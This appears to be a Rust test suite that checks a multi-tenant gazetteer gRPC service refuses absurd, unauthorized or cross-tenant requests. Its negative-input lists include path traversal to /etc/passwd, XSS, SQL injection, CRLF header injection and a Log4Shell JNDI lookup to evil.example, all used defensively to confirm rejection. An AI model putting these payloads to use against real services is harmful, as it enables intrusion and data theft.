//! Calls of `GazetteerService` that are absurd, not allowed, or about what is another's.

use std::sync::Arc;

use proto::{Entity, EntityCheck, ImportConfig, ImportEntitiesRequest, version_requirement::Version};
use tonic::{Code, Status, transport::Channel};
use tonic_types::StatusExt as _;

use super::{Got, Outcome, Row, World, proto};
use crate::{
    access::with,
    databases::{given, remove, request, upsert},
    support::TestServer,
    tenants::{Tenants, claims},
};

type Client = proto::gazetteer_service_client::GazetteerServiceClient<Channel>;

const INVALID: Outcome = Outcome::Refused(Code::InvalidArgument, "INVALID_REQUEST");
const NOT_FOUND: Outcome = Outcome::Refused(Code::NotFound, "GAZETTEER_NOT_FOUND");
const NO_ENTITY: Outcome = Outcome::Refused(Code::NotFound, "ENTITY_NOT_FOUND");
const NO_VERSION: Outcome = Outcome::Refused(Code::NotFound, "VERSION_NOT_FOUND");
const DENIED: Outcome = Outcome::Refused(Code::PermissionDenied, "PERMISSION_DENIED");
const MISMATCH: Outcome = Outcome::Refused(Code::Aborted, "VERSION_MISMATCH");

async fn client(server: &TestServer) -> Client {
    Client::new(server.channel().await).max_decoding_message_size(usize::MAX)
}

/// A call of somebody of the first tenant with a role, by the name of its method.
macro_rules! call {
    ($name:expr, $role:literal, $method:ident, $expected:expr, $request:expr) => {
        Row::new(&$name, $expected, {
            let make = move || $request;
            move |world| {
                let request = make();
                async move {
                    let request = with(&world.token($role), request);
                    Got::answer(client(&world.kept).await.$method(request).await)
                }
            }
        })
    };
}

fn create(name: &str, description: &str) -> proto::CreateGazetteerRequest {
    proto::CreateGazetteerRequest { name: name.into(), description: description.into() }
}

fn get(name: &str) -> proto::GetGazetteerRequest {
    proto::GetGazetteerRequest { name: name.into() }
}

fn delete(name: &str) -> proto::DeleteGazetteerRequest {
    proto::DeleteGazetteerRequest { name: name.into(), ..Default::default() }
}

fn entity(id: &str, version: &str) -> proto::GetEntityRequest {
    proto::GetEntityRequest { gazetteer: "one".into(), id: id.into(), version: version.into() }
}

fn entities(size: u32, token: &str) -> proto::ListEntitiesRequest {
    let page_token = token.into();
    proto::ListEntitiesRequest { gazetteer: "one".into(), page_size: size, page_token, version: String::new() }
}

fn versions(size: u32, token: &str) -> proto::ListVersionsRequest {
    proto::ListVersionsRequest { gazetteer: "one".into(), page_size: size, page_token: token.into() }
}

fn rollback(gazetteer: &str, to: &str) -> proto::RollbackRequest {
    proto::RollbackRequest { gazetteer: gazetteer.into(), to_version: to.into(), ..Default::default() }
}

fn export(gazetteer: &str, version: &str) -> proto::ExportEntitiesRequest {
    proto::ExportEntitiesRequest { gazetteer: gazetteer.into(), version: version.into() }
}

fn watch(checkpoint: &str, gazetteers: Vec<String>) -> proto::WatchGazetteersRequest {
    proto::WatchGazetteersRequest { checkpoint: checkpoint.into(), gazetteers }
}

/// An edit of `one` under a condition.
fn conditional(if_version: &str, checks: Vec<EntityCheck>) -> proto::UpsertEntitiesRequest {
    let if_version = if_version.into();
    proto::UpsertEntitiesRequest { if_version, checks, ..upsert("one", vec![given("x", "Xland")]) }
}

fn check(id: &str, version: &str) -> EntityCheck {
    EntityCheck { id: id.into(), version: version.into() }
}

fn config(gazetteer: &str, change: impl FnOnce(&mut ImportConfig)) -> ImportEntitiesRequest {
    let mut config = ImportConfig { gazetteer: gazetteer.into(), create: true, ..Default::default() };
    change(&mut config);
    ImportEntitiesRequest { config: Some(config), entities: vec![given("x", "Xland")] }
}

/// An import of these messages.
fn import(name: &str, role: &'static str, expected: Outcome, messages: Vec<ImportEntitiesRequest>) -> Row {
    Row::new(name, expected, move |world| {
        let messages = messages.clone();
        async move {
            let request = with(&world.token(role), tokio_stream::iter(messages));
            Got::answer(client(&world.kept).await.import_entities(request).await)
        }
    })
}

/// Imports that end before they are whole; then asks for what they were to make.
async fn aborted(world: Arc<World>) -> Got {
    let mut client = client(&world.kept).await;
    let (send, messages) = tokio::sync::mpsc::channel(1);
    let request = with(&world.token("admin"), tokio_stream::wrappers::ReceiverStream::new(messages));
    let importing = tokio::spawn({
        let mut client = client.clone();
        async move { client.import_entities(request).await.map(|_| ()) }
    });
    send.send(config("one-aborted", |_| {})).await.unwrap();
    for number in 0..100 {
        let entities = vec![given(&number.to_string(), "Aborted")];
        send.send(ImportEntitiesRequest { config: None, entities }).await.unwrap();
    }
    importing.abort();
    assert!(importing.await.unwrap_err().is_cancelled());
    // One that came behind it: whatever was done with the first was done before.
    let second = with(&world.token("admin"), tokio_stream::iter([config("one-second", |_| {})]));
    client.import_entities(second).await.unwrap();
    Got::answer(client.get_gazetteer(with(&world.token("reader"), get("one-aborted"))).await)
}

/// Names that are none, each shown by a name of its own.
fn names() -> Vec<(String, String)> {
    let long = "a".repeat(300_000);
    let dots = "../".repeat(100_000);
    let names = [
        "",
        "../one",
        "one/../two",
        "/etc/passwd",
        "%2e%2e%2ftwo",
        "one two",
        "ONE",
        "one\u{0}",
        "one-\u{0}",
        "inline",
        "<script>alert(1)</script>",
        "one\r\nSet-Cookie: b",
        "\u{1B}[2J\u{7}",
        "\u{202E}owt",
        "one-\u{1B}[31m",
        "'; DROP TABLE onomast_meta; --",
        "${jndi:ldap://evil.example}",
        "one-é",
        "one-\u{202E}x",
        &long,
        &dots,
    ];
    let shown = |name: &str| format!("{:?} of {} bytes", name.chars().take(30).collect::<String>(), name.len());
    names.iter().map(|name| (shown(name), (*name).to_owned())).collect()
}

/// What is no version.
fn no_versions() -> Vec<(String, String)> {
    let long = "9".repeat(300_000);
    let versions =
        ["-1", "0", "x", "1.0", " 1", "9223372036854775807", "9223372036854775808", "\u{1B}[2J", "<b>", &long];
    let shown = |text: &str| format!("{:?} of {} bytes", text.chars().take(30).collect::<String>(), text.len());
    versions.iter().map(|text| (shown(text), (*text).to_owned())).collect()
}

pub(super) fn rows() -> Vec<Row> {
    let mut rows = Vec::new();
    for (shown, name) in names() {
        let named = name.clone();
        rows.push(call!(format!("create {shown}"), "admin", create_gazetteer, INVALID, create(&named, "")));
        let named = name.clone();
        // None at all is no name of something that is not there.
        let expected = || if name.is_empty() { INVALID } else { NOT_FOUND };
        rows.push(call!(format!("get {shown}"), "reader", get_gazetteer, expected(), get(&named)));
        let named = name.clone();
        rows.push(call!(format!("delete {shown}"), "admin", delete_gazetteer, expected(), delete(&named)));
        let edit = upsert(&name, vec![given("x", "Xland")]);
        rows.push(call!(format!("edit {shown}"), "admin", upsert_entities, expected(), edit.clone()));
        let expected = if name.is_empty() || name.starts_with("one-") { INVALID } else { NOT_FOUND };
        rows.push(import(&format!("import {shown}"), "admin", expected, vec![config(&name, |_| {})]));
    }
    for (shown, version) in no_versions() {
        let number = version.parse::<i64>().is_ok_and(|number| number >= 0);
        let never = || if number { NO_VERSION } else { INVALID };
        let asked = version.clone();
        rows.push(call!(format!("an entity in {shown}"), "reader", get_entity, never(), entity("id-one", &asked)));
        let asked = version.clone();
        rows.push(call!(format!("export {shown}"), "reader", export_entities, never(), export("one", &asked)));
        let asked = version.clone();
        rows.push(call!(format!("back to {shown}"), "editor", rollback, never(), rollback("one", &asked)));
        let asked = version.clone();
        let mismatch = if number { MISMATCH } else { INVALID };
        rows.push(call!(format!("if {shown}"), "editor", upsert_entities, mismatch, conditional(&asked, vec![])));
        let expected = Outcome::Refused(Code::NotFound, "VERSION_NOT_FOUND");
        let exact = request("one", "x", Some(Version::Exact(version.clone())));
        rows.push(extract(&format!("extract from {shown}"), expected, exact));
        if version.parse::<i64>().is_ok_and(|version| version <= 2) {
            continue;
        }
        // What is no number is never reached.
        let expected = match version.parse::<i64>() {
            Ok(_) => Outcome::Refused(Code::FailedPrecondition, "VERSION_NOT_REACHED"),
            Err(_) => Outcome::Refused(Code::NotFound, "VERSION_NOT_FOUND"),
        };
        let newer = request("one", "x", Some(Version::AtLeast(version)));
        rows.push(extract(&format!("extract from at least {shown}"), expected, newer));
    }
    let big = |count: usize, text: &str| {
        let alias = proto::Alias { text: text.into(), ..Default::default() };
        Entity { aliases: vec![alias; count], ..given("x", "Xland") }
    };
    let edits = |entity: Entity| upsert("one", vec![entity]);
    let kind = |kind| proto::Alias { text: "y".into(), kind, ..Default::default() };
    rows.extend([
        // What is another's, or nobody's.
        call!("create what is another's", "admin", create_gazetteer, NOT_FOUND, create("two", "")),
        call!("create what would be another's", "admin", create_gazetteer, NOT_FOUND, create("three", "")),
        import("import into what is another's", "admin", NOT_FOUND, vec![config("two", |_| {})]),
        import("import into what would be another's", "admin", NOT_FOUND, vec![config("three", |_| {})]),
        call!("another's version, exported", "reader", export_entities, NO_VERSION, export("one", "6")),
        call!("another's version, come back to", "editor", rollback, NO_VERSION, rollback("one", "6")),
        call!("another's version, depended on", "editor", upsert_entities, MISMATCH, conditional("6", vec![])),
        call!("another's page token", "reader", list_entities, NO_VERSION, entities(0, "6 id-one")),
        call!("another's page token of versions", "reader", list_versions, Outcome::Answered, versions(0, "6")),
        call!("another's page token of names", "reader", list_gazetteers, Outcome::Answered, {
            proto::ListGazetteersRequest { page_size: 0, page_token: "two".into() }
        }),
        call!("another's checkpoint", "reader", watch_gazetteers, Outcome::Answered, watch("6", vec!["two".into()])),
        call!("another's entity", "reader", get_entity, NO_ENTITY, entity("guessed-two", "")),
        // Who may not.
        call!("a reader creates", "reader", create_gazetteer, DENIED, create("one-reader", "")),
        call!("a reader deletes", "reader", delete_gazetteer, DENIED, delete("one")),
        call!("a reader edits", "reader", upsert_entities, DENIED, upsert("one", vec![given("x", "Xland")])),
        call!("a reader deletes entities", "reader", delete_entities, DENIED, remove("one", &["id-one"])),
        call!("a reader goes back", "reader", rollback, DENIED, rollback("one", "1")),
        import("a reader imports", "reader", DENIED, vec![config("one", |_| {})]),
        import("a reader only checks", "reader", DENIED, vec![config("one", |config| config.check_only = true)]),
        call!("an editor creates", "editor", create_gazetteer, DENIED, create("one-editor", "")),
        call!("an editor deletes", "editor", delete_gazetteer, DENIED, delete("one")),
        import("an editor imports what is not there", "editor", DENIED, vec![config("one-editor", |_| {})]),
        // Pages and checkpoints.
        call!("a page of all gazetteers", "reader", list_gazetteers, INVALID, {
            proto::ListGazetteersRequest { page_size: u32::MAX, ..Default::default() }
        }),
        call!("a token of a megabyte", "reader", list_gazetteers, INVALID, {
            proto::ListGazetteersRequest { page_size: 1000, page_token: "\u{1B}".repeat(1 << 20) }
        }),
        call!("a page of all entities", "reader", list_entities, INVALID, entities(u32::MAX, "")),
        call!("a page of all versions", "reader", list_versions, INVALID, versions(u32::MAX, "")),
        call!("a token of no version", "reader", list_entities, INVALID, entities(0, "x")),
        call!("a token of SQL", "reader", list_entities, INVALID, entities(0, "1' OR '1'='1 x")),
        call!("a token with U+0000", "reader", list_entities, INVALID, entities(0, "2 \0")),
        call!("a token beyond all numbers", "reader", list_entities, INVALID, entities(0, "99999999999999999999 x")),
        call!("a token of a version that never was", "reader", list_entities, NO_VERSION, entities(0, "7777 x")),
        call!("a token of versions that is a path", "reader", list_versions, INVALID, versions(0, "../../2")),
        call!("a token before all versions", "reader", list_versions, INVALID, { versions(0, "-9223372036854775808") }),
        call!("a checkpoint that is none", "reader", watch_gazetteers, INVALID, watch("x", vec![])),
        call!("a checkpoint before all", "reader", watch_gazetteers, INVALID, watch("-1", vec![])),
        call!("a checkpoint beyond all", "reader", watch_gazetteers, INVALID, watch("9223372036854775807", vec![])),
        call!("a watch of a hundred thousand", "reader", watch_gazetteers, INVALID, {
            watch("", vec!["two".into(); 100_000])
        }),
        // Entities.
        call!("an id that is a path", "reader", get_entity, NO_ENTITY, entity("../../etc/passwd", "")),
        call!("an id of control characters", "reader", get_entity, NO_ENTITY, entity("\u{1B}[2J\u{202E}\0", "")),
        call!("an id of SQL", "reader", get_entity, NO_ENTITY, entity("' OR '1'='1", "")),
        call!("an id of a megabyte", "reader", get_entity, NO_ENTITY, entity(&"\u{1}".repeat(1 << 20), "")),
        call!("no entities", "editor", upsert_entities, INVALID, upsert("one", vec![])),
        call!("a hundred thousand empty entities", "editor", upsert_entities, INVALID, {
            upsert("one", vec![Entity::default(); 100_000])
        }),
        call!("an entity of nothing", "editor", upsert_entities, INVALID, edits(Entity::default())),
        call!("an id with U+0000", "editor", upsert_entities, INVALID, edits(given("a\0", "Xland"))),
        call!("an id beyond the limit", "editor", upsert_entities, INVALID, edits(given(&"a".repeat(5000), "Xland"))),
        call!("a name of control characters", "editor", upsert_entities, INVALID, edits(given("x", "\u{1}\u{7F}"))),
        call!("a name of a megabyte", "editor", upsert_entities, INVALID, edits(given("x", &"a".repeat(1 << 20)))),
        call!("more aliases than an entity has", "editor", upsert_entities, INVALID, edits(big(10_001, "Xland"))),
        call!("a hundred thousand aliases of nothing", "editor", upsert_entities, INVALID, { edits(big(100_000, "")) }),
        call!("aliases of nothing", "editor", upsert_entities, INVALID, edits(big(10_000, ""))),
        call!("an alias of an unknown kind", "editor", upsert_entities, INVALID, {
            edits(Entity { aliases: vec![kind(i32::MAX)], ..given("x", "Xland") })
        }),
        call!("an alias of a negative kind", "editor", upsert_entities, INVALID, {
            edits(Entity { aliases: vec![kind(i32::MIN)], ..given("x", "Xland") })
        }),
        call!("an unknown case", "editor", upsert_entities, INVALID, {
            edits(Entity { case: i32::MAX, ..given("x", "Xland") })
        }),
        call!("a prior that is no number", "editor", upsert_entities, INVALID, {
            edits(Entity { prior: Some(f64::NAN), ..given("x", "Xland") })
        }),
        call!(
            "a message beyond the limit",
            "editor",
            upsert_entities,
            Outcome::Refused(Code::InvalidArgument, "MESSAGE_TOO_LARGE"),
            edits(given("x", &"a".repeat(17 << 20)))
        ),
        call!("a hundred thousand checks", "editor", upsert_entities, INVALID, {
            conditional("", vec![check("id-one", ""); 100_000])
        }),
        call!("a check of no version", "editor", upsert_entities, INVALID, conditional("", vec![check("x", "\u{1B}")])),
        call!("a check with U+0000", "editor", upsert_entities, INVALID, conditional("", vec![check("\0", "")])),
        call!("a check of what is another's", "editor", upsert_entities, MISMATCH, {
            conditional("", vec![check("guessed-two", "6")])
        }),
        call!("a check of a megabyte", "editor", upsert_entities, MISMATCH, {
            conditional("", vec![check(&"\u{7}".repeat(1 << 20), "6")])
        }),
        call!("deleting nothing", "editor", delete_entities, INVALID, remove("one", &[])),
        call!("deleting U+0000", "editor", delete_entities, INVALID, remove("one", &["\0"])),
        call!("deleting a hundred thousand", "editor", delete_entities, INVALID, remove("one", &["x"; 100_000])),
        call!("deleting what is another's", "editor", delete_entities, Outcome::Answered, {
            remove("one", &["guessed-two", "../guessed-two"])
        }),
        // Descriptions are text; only what no database keeps is refused.
        call!("a description of HTML", "admin", create_gazetteer, Outcome::Answered, {
            create("one-html", "<script>alert(1)</script>\u{1B}[2J")
        }),
        call!("a description with U+0000", "admin", create_gazetteer, INVALID, create("one-nul", "a\0")),
        call!("a description of megabytes", "admin", create_gazetteer, INVALID, {
            create("one-long", &"\u{7}".repeat(15 << 20))
        }),
        // Imports.
        import("an import of nothing", "editor", INVALID, vec![]),
        import("an import without settings", "editor", INVALID, vec![ImportEntitiesRequest::default()]),
        import("an import with settings twice", "editor", INVALID, vec![config("one", |_| {}), config("one", |_| {})]),
        import(
            "an import whose settings change",
            "editor",
            INVALID,
            vec![config("one", |_| {}), config("two", |_| {})],
        ),
        import("an import of an unknown kind", "editor", INVALID, vec![config("one", |config| config.mode = i32::MAX)]),
        import("an import of a negative kind", "editor", INVALID, vec![config("one", |config| config.mode = -1)]),
        import("an import of what is wrong", "editor", INVALID, {
            let entities = vec![Entity::default(), given("a\0", "\0"), given("", ".")];
            vec![config("one", |_| {}), ImportEntitiesRequest { config: None, entities }]
        }),
        import("an import of too many aliases", "editor", INVALID, {
            vec![config("one", |_| {}), ImportEntitiesRequest { config: None, entities: vec![big(10_001, "Xland")] }]
        }),
        import("an import that depends on another's version", "editor", MISMATCH, {
            vec![config("one", |config| config.if_version = "6".into())]
        }),
        import("an import into nothing that depends on a version", "admin", MISMATCH, {
            vec![config("one-nothing", |config| config.if_version = "6".into())]
        }),
        import("an import that depends on no version", "admin", INVALID, {
            vec![config("one-nothing", |config| config.if_version = "\u{1B}".into())]
        }),
        call!("what an import that failed has made", "reader", get_gazetteer, NOT_FOUND, get("one-nothing")),
        Row::new("an import that breaks off", NOT_FOUND, aborted),
        // A bomb is a name ten thousand times, for which nobody else pays.
        call!("as many aliases as there may be", "editor", upsert_entities, Outcome::Answered, {
            edits(big(10_000, "Xland Bomb"))
        }),
    ]);
    rows
}

fn extract(name: &str, expected: Outcome, request: proto::ExtractRequest) -> Row {
    Row::new(name, expected, move |world| {
        let request = request.clone();
        async move { Got::answer(world.kept.client().await.extract(with(&world.robot(), request)).await) }
    })
}

/// Code, reason and message of a refusal, and how many details it has; a name in them is replaced.
type Refusal = Result<String, (Code, String, String, usize)>;

/// What every method answers about a gazetteer.
async fn every_method(server: &TestServer, token: &str, name: &str) -> Vec<(&'static str, Refusal)> {
    let shown = |status: Status| {
        let reason = status.get_error_details().error_info().map(|info| info.reason.clone()).unwrap_or_default();
        let details = status.get_details_error_info().into_iter().count()
            + status.get_details_bad_request().map_or(0, |wrong| wrong.field_violations.len());
        (status.code(), reason, status.message().replace(name, "NAME"), details)
    };
    let (mut client, mut extract) = (client(server).await, server.client().await);
    let mut all = Vec::new();
    macro_rules! ask {
        ($client:ident . $method:ident ( $request:expr )) => {
            let answer = $client.$method(with(token, $request)).await;
            all.push((stringify!($method), answer.map(|answer| format!("{answer:?}")).map_err(shown)));
        };
    }
    let of = || name.to_owned();
    ask!(client.get_gazetteer(get(name)));
    ask!(client.get_entity(proto::GetEntityRequest {
        gazetteer: of(),
        id: "id-secret".into(),
        version: String::new()
    }));
    ask!(client.get_entity(proto::GetEntityRequest { gazetteer: of(), id: "id-secret".into(), version: "6".into() }));
    ask!(client.get_entity(proto::GetEntityRequest { gazetteer: of(), id: "\0".into(), version: "x".into() }));
    ask!(client.list_entities(proto::ListEntitiesRequest { gazetteer: of(), ..Default::default() }));
    let page_token = "6 a".to_owned();
    ask!(client.list_entities(proto::ListEntitiesRequest { gazetteer: of(), page_token, ..Default::default() }));
    ask!(client.list_versions(proto::ListVersionsRequest { gazetteer: of(), ..Default::default() }));
    ask!(client.export_entities(export(name, "")));
    ask!(client.export_entities(export(name, "6")));
    ask!(client.upsert_entities(upsert(name, vec![given("x", "Xland")])));
    let conditional =
        proto::UpsertEntitiesRequest { gazetteer: of(), ..conditional("5", vec![check("id-secret", "5")]) };
    ask!(client.upsert_entities(conditional));
    ask!(client.delete_entities(remove(name, &["id-secret"])));
    ask!(client.rollback(rollback(name, "5")));
    ask!(client.rollback(rollback(name, "4")));
    ask!(client.delete_gazetteer(delete(name)));
    let no_create = config(name, |config| config.create = false);
    ask!(client.import_entities(tokio_stream::iter([no_create])));
    for version in [None, Some(Version::Exact("6".into())), Some(Version::Exact("x".into()))] {
        ask!(extract.extract(request(name, "Secretland", version)));
    }
    for version in
        [None, Some(Version::Exact("6".into())), Some(Version::AtLeast("6".into())), Some(Version::AtLeast("9".into()))]
    {
        let proto::ExtractRequest { document, gazetteers, versions, .. } = request(name, "Secretland", version);
        let alone =
            proto::ExtractRequest { document: document.clone(), versions: versions.clone(), ..Default::default() };
        if !versions.is_empty() {
            ask!(extract.extract(alone));
        }
        ask!(extract.explain_match(proto::ExplainMatchRequest {
            document: document.clone(),
            subject: Some(proto::explain_match_request::Subject::EntityId("id-secret".into())),
            gazetteers: gazetteers.clone(),
            versions: versions.clone(),
            ..Default::default()
        }));
        let documents = vec![document.clone().unwrap_or_default()];
        ask!(extract.batch_extract(proto::BatchExtractRequest {
            documents,
            gazetteers: gazetteers.clone(),
            versions: versions.clone(),
            ..Default::default()
        }));
        let config = Some(proto::StreamExtractConfig { gazetteers, versions, ..Default::default() });
        let message = proto::StreamExtractRequest { config, document };
        let answer = extract.stream_extract(with(token, tokio_stream::iter([message]))).await;
        let answer = match answer {
            Ok(answer) => answer.into_inner().message().await,
            Err(status) => Err(status),
        };
        all.push(("stream_extract", answer.map(|answer| format!("{answer:?}")).map_err(shown)));
    }
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_anothers_is_answered_as_what_is_not_there() {
    let world = World::new().await;
    for role in ["reader", "editor", "admin"] {
        let token = world.token(role);
        let hidden = every_method(&world.kept, &token, "two").await;
        let missing = every_method(&world.kept, &token, "owt").await;
        for ((method, hidden), (_, missing)) in hidden.iter().zip(&missing) {
            assert_eq!(hidden, missing, "{method} as {role}");
            let (code, reason, ..) = hidden.as_ref().unwrap_err();
            assert_eq!((*code, &**reason), (Code::NotFound, "GAZETTEER_NOT_FOUND"), "{method} as {role}");
        }
        if role == "admin" {
            // And as one that is not there in the scope of the caller.
            let missing = every_method(&world.kept, &token, "one-not").await;
            assert_eq!(hidden, missing);
        }
        assert_eq!(hidden.len(), missing.len());
    }
    // Lists and watches have only what is theirs.
    let mut client = client(&world.kept).await;
    let token = world.token("admin");
    let list = proto::ListGazetteersRequest { page_size: 1, page_token: String::new() };
    let mut listed = Vec::new();
    let mut next = list.clone();
    loop {
        let page = client.list_gazetteers(with(&token, next)).await.unwrap().into_inner();
        listed.extend(page.gazetteers.into_iter().map(|one| one.name));
        if page.next_page_token.is_empty() {
            break;
        }
        next = proto::ListGazetteersRequest { page_token: page.next_page_token, ..list.clone() };
    }
    assert_eq!(listed, ["one", "one-more"]);
    for (checkpoint, wanted) in [("", vec![]), ("", vec!["two".to_owned(), "one".to_owned()]), ("0", vec![])] {
        let mut stream = client.watch_gazetteers(with(&token, watch(checkpoint, wanted))).await.unwrap().into_inner();
        let mut last = String::new();
        while last.parse::<i64>().unwrap_or_default() < 4 {
            let message = stream.message().await.unwrap().unwrap();
            assert!(message.event.is_none_or(|event| event.gazetteer.starts_with("one")));
            last = message.checkpoint;
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_without_its_catalog_says_that_it_does_not_serve() {
    let tenants = Tenants::new();
    let server = TestServer::facing(Default::default(), &tenants.access()).await;
    let mut claims = claims();
    claims["role"] = "admin".into();
    let token = tenants.signer.sign(&claims, |_| {});
    for (method, answer) in every_method(&server, &token, "one").await {
        let (code, reason, ..) = answer.unwrap_err();
        assert_eq!((code, &*reason), (Code::Unavailable, "NOT_SERVING"), "{method}");
    }
    let mut client = client(&server).await;
    let list = client.list_gazetteers(with(&token, proto::ListGazetteersRequest::default())).await.unwrap_err();
    let watching = client.watch_gazetteers(with(&token, watch("", vec![]))).await.unwrap_err();
    let creating = client.create_gazetteer(with(&token, create("one-new", ""))).await.unwrap_err();
    for status in [list, watching, creating] {
        assert_eq!(crate::databases::reason(&status), (Code::Unavailable, "NOT_SERVING".into()));
    }
}
